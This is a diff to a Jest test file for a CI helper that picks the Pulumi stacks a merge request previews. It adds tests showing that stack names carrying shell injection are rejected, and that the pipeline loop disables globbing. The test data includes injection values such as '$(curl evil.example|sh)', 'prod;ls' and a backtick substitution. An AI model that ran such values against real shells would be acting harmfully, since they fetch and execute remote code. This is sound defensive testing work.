@@ -2,7 +2,7 @@ import { describe, expect, it } from "@jest/globals";
 import * as fs from "fs";
 import * as path from "path";
 import { copyOfRepo } from "../../test/support/temp-repo";
-import { affectedStacks, stacksReadingTheTree } from "./affected";
+import { affectedStacks, stacksReadingTheTree, unsafeStackNames } from "./affected";
 
 const STACKS = ["aws-development", "aws-production", "aws-staging", "development", "production", "staging"];
 
@@ -77,5 +77,24 @@ describe("which stacks a merge request previews", () => {
     it("an EKS change to two stacks and a platform bump together", () => {
         const changes = ["stacks/Pulumi.aws-production.yaml", "stacks/Pulumi.aws-staging.yaml", "clusters/production/platform.yaml", ""];
         expect(affectedStacks(changes, STACKS)).toEqual({ stacks: ["aws-production", "aws-staging"], gitopsTree: true });
+    });
+});
+
+describe("stack names the pipeline's shell receives", () => {
+    it("passes the shipped stacks and any name Pulumi accepts", () => {
+        expect(unsafeStackNames(["development", "aws-staging", "sandbox_1.perf"])).toEqual([]);
+    });
+
+    it.each(["$(curl evil.example|sh)", "*", "two words", "prod;ls", "-rf", "back`tick`"])("refuses a stack file named for '%s', naming the file", (name) => {
+        expect(unsafeStackNames(["development", name])).toEqual([
+            `stacks/Pulumi.${name}.yaml: '${name}' is not a stack name (letters, digits, '-', '_' and '.'). Fix: rename the file`,
+        ]);
+    });
+
+    it("is looped over with globbing off in the merge-request job", () => {
+        const ci = fs.readFileSync(path.join(__dirname, "../../.gitlab-ci.yml"), "utf8");
+        const loop = ci.indexOf("for stack in $STACKS");
+        expect(loop).toBeGreaterThan(0);
+        expect(ci.lastIndexOf("set -f", loop)).toBeGreaterThan(ci.lastIndexOf("- |", loop));
     });
 });
